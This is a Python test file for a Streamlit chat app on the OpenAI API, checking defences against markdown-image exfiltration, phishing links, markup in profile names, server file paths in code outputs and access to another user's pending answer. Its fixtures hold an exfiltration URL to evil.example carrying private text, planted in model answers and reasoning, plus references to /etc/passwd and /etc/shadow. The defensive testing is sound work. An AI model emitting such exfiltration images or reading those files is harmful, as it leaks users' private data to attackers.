"""Attacks through what the page draws: images that load by themselves, names read as markup, another
person's pending answer named in the URL, a code output pointing at a file on the server."""

from __future__ import annotations

from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from lib.access import NOT_YOURS
from lib.tools import ToolSettings
from lib.ui import state
from tests.app.actions import send_message
from tests.fake_openai import CodeInterpreter, FakeOpenAI, Message, Reasoning, Reply, Text, WebSearch, url_citation
from tests.security.attack import alerts, owner_app, signed_in, tree_text

LEAK = "https://evil.example/pixel.png?q=Ann+told+me+her+salary"
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def loaded_images(markdown: str) -> list[str]:
    """The image URLs a browser would load for this markdown (CommonMark, as Streamlit's renderer reads it)."""
    found = []
    for token in PARSER.parse(markdown):
        found += [t.attrs["src"] for t in token.children or [] if t.type == "image"]
    return found


def all_markdown(at: AppTest) -> list[str]:
    return [m.value for m in at.markdown] + [c.value for c in at.caption]


def test_an_image_in_an_answer_is_a_link_showing_its_host(app, configured: FakeOpenAI) -> None:
    configured.queue(Text(f"Here you go. ![chart]({LEAK}) And [your bank](https://evil.example/login)."))
    at = send_message(app().run(), f"Show me this: ![me]({LEAK})")
    user, answer = at.chat_message[0], at.chat_message[1]
    assert [loaded_images(m.value) for m in [*user.markdown, *answer.markdown]] == [[], []]
    assert not at.get("imgs") and not answer.get("image")
    assert answer.markdown[0].value == (
        "Here you go. [🖼 chart (evil\\.example)](https://evil.example/pixel.png?q=Ann+told+me+her+salary) "
        "And [your bank (evil\\.example)](https://evil.example/login)."
    )
    assert user.markdown[0].value.startswith("Show me this: [🖼 me (evil\\.example)](")


def test_thinking_tool_labels_and_citations_load_nothing_either(app, configured: FakeOpenAI) -> None:
    text = "See the source."
    configured.queue(
        Reply(
            Reasoning((f"Planting ![r]({LEAK}) here.",)),
            WebSearch(f"salary ![q]({LEAK})", sources=(LEAK,)),
            Message(text, annotations=(url_citation("https://evil.example/phish", "https://bank.example", 0, 3),)),
        )
    )
    at = app()
    at.session_state["settings"] = {"tools": ToolSettings(web_search=True, reasoning_summary="concise")}
    at = send_message(at.run(), "Look it up")
    reply = at.chat_message[1]
    texts = [m.value for m in reply.markdown] + [c.label for c in reply.get("status")]
    assert [src for value in texts for src in loaded_images(value)] == []
    assert reply.expander[0].markdown[0].value.startswith("Planting [🖼 r (evil\\.example)](")
    assert reply.get("status")[0].label.startswith("Searched the web: salary \\!\\[q\\]")
    assert "[1] [https://bank\\.example (evil\\.example)](https://evil.example/phish)" in texts


def test_images_from_an_allowed_host_still_show(app, configured: FakeOpenAI, monkeypatch) -> None:
    monkeypatch.setenv("ALLOWED_IMAGE_HOSTS", "img.example, cdn.example")
    configured.queue(Text(f"![logo](https://img.example/logo.png) ![leak]({LEAK})"))
    at = send_message(app().run(), "Logo please")
    assert loaded_images(at.chat_message[1].markdown[0].value) == ["https://img.example/logo.png"]


def test_a_profile_name_in_the_url_is_shown_literally(app, configured: FakeOpenAI) -> None:
    name = f"![x]({LEAK}) **[call us](https://evil.example/)**"
    at = app(profile=name).run()
    assert not at.exception
    warning = at.warning[0].value
    assert warning == (
        "There is no profile named '\\!\\[x\\](https://evil.example/pixel.png?q=Ann+told+me+her+salary)"
        " \\*\\*\\[call us\\](https://evil.example/)\\*\\*' for you."
    )
    tokens = [t.type for token in PARSER.parse(warning) for t in token.children or []]
    assert "image" not in tokens and "link_open" not in tokens and "strong_open" not in tokens


def test_a_code_output_naming_a_server_path_is_not_opened(app, configured: FakeOpenAI) -> None:
    configured.queue(Reply(CodeInterpreter("plot()", files=("/etc/passwd", "file:///etc/shadow")), Message("Done.")))
    at = app()
    at.session_state["settings"] = {"tools": ToolSettings(code_interpreter=True)}
    at = send_message(at.run(), "Plot it")
    card = at.chat_message[1].get("status")[0]
    assert not card.get("image") and not at.get("imgs")
    refused = "An image output whose location is not a web address was not opened."
    assert [c.value for c in card.caption] == [refused, refused]
    assert "/etc/passwd" not in str([e.proto for e in at.get("image")])


def test_a_data_image_from_code_is_drawn(app, configured: FakeOpenAI) -> None:
    pixel = "data:image/png;base64,iVBORw0KGgo="
    configured.queue(Reply(CodeInterpreter("plot()", files=(pixel,)), Message("Done.")))
    at = app()
    at.session_state["settings"] = {"tools": ToolSettings(code_interpreter=True)}
    at = send_message(at.run(), "Plot it")
    assert at.chat_message[1].get("status")[0].get("image")[0].proto.imgs[0].url == pixel


def test_another_persons_pending_answer_in_my_conversation_url_shows_nothing(app, shared_env, monkeypatch) -> None:
    monkeypatch.setenv("OPENAI_BACKGROUND", "true")
    shared_env.queue(Text("Ann's secret plan: sell everything."))
    ann = signed_in(owner_app(app, monkeypatch), "ann@example.com").run()
    send_message(ann, "What is my secret plan?")
    ann_response = ann.session_state[state.TRANSCRIPT][-1].response_id
    assert ann_response and ann.session_state[state.TRANSCRIPT][-1].background

    shared_env.queue(Text("Hello Bob."))
    bob = send_message(signed_in(owner_app(app, monkeypatch), "bob@example.com").run(), "Hi")
    bobs_conversation = bob.query_params["conversation"]

    seen = len(shared_env.requests)
    attack = signed_in(owner_app(app, monkeypatch), "bob@example.com")
    attack.query_params["conversation"] = bobs_conversation
    attack.query_params["pending"] = ann_response
    attack.run()
    assert not attack.exception
    shown = tree_text(attack)
    assert "secret plan" not in shown and "sell everything" not in shown
    assert "Hello Bob." in shown  # his own conversation still opens
    assert NOT_YOURS in alerts(attack)
    assert "pending" not in attack.query_params
    after = shared_env.requests[seen:]
    assert not [r for r in after if r.path.endswith("/cancel")]
    anns = [r for r in after if ann_response in r.path]
    assert not [r for r in anns if r.path.endswith("/input_items") or r.query.get("stream")]
    assert state.JOB not in attack.session_state


def test_my_own_pending_answer_still_resumes(app, shared_env, monkeypatch) -> None:
    monkeypatch.setenv("OPENAI_BACKGROUND", "true")
    shared_env.queue(Text("Your plan is fine."))
    ann = send_message(signed_in(owner_app(app, monkeypatch), "ann@example.com").run(), "Check my plan")
    conversation = ann.query_params["conversation"]
    response = ann.session_state[state.TRANSCRIPT][-1].response_id

    again = signed_in(owner_app(app, monkeypatch), "ann@example.com")
    again.query_params["conversation"] = conversation
    again.query_params["pending"] = response
    again.run()
    assert not again.exception and NOT_YOURS not in alerts(again)
    # It finished before the reload: the reopened conversation shows it, once, and nothing follows it again.
    assert not any(response in r.path and r.query.get("stream") == "true" for r in shared_env.requests)
    said = [" ".join(m.value for m in message.markdown) for message in again.chat_message]
    assert said == ["Check my plan", "Your plan is fine."]


def test_in_a_response_chain_only_a_continuation_of_my_chain_resumes(
    app, shared_env, monkeypatch, fake_openai_factory
) -> None:
    chained = fake_openai_factory(conversations=False)  # an endpoint without the Conversations API
    monkeypatch.setenv("OPENAI_BASE_URL", chained.base_url)
    monkeypatch.setenv("OPENAI_BACKGROUND", "true")
    chained.queue(Text("Ann's secret plan: sell everything."))
    ann = send_message(signed_in(owner_app(app, monkeypatch), "ann@example.com").run(), "What is my secret plan?")
    ann_response = ann.session_state[state.TRANSCRIPT][-1].response_id

    chained.queue(Text("Hello Bob."), Text("Still here, Bob."))
    bob = send_message(send_message(signed_in(owner_app(app, monkeypatch), "bob@example.com").run(), "Hi"), "Again")
    first, second = (turn.response_id for turn in bob.session_state[state.TRANSCRIPT])

    def open_as_bob(pending: str) -> AppTest:
        at = signed_in(owner_app(app, monkeypatch), "bob@example.com")
        at.query_params["response"] = first
        at.query_params["pending"] = pending
        return at.run()

    seen = len(chained.requests)
    attack = open_as_bob(ann_response)
    assert not attack.exception and NOT_YOURS in alerts(attack)
    assert "secret plan" not in tree_text(attack) and "Hello Bob." in tree_text(attack)
    anns = [r for r in chained.requests[seen:] if ann_response in r.path]
    assert [(r.method, r.path) for r in anns] == [("GET", f"/v1/responses/{ann_response}")]  # the check only

    own = open_as_bob(second)  # continues the chain the URL opened: it is Bob's
    assert not own.exception and NOT_YOURS not in alerts(own)
    assert "Still here, Bob." in tree_text(own)
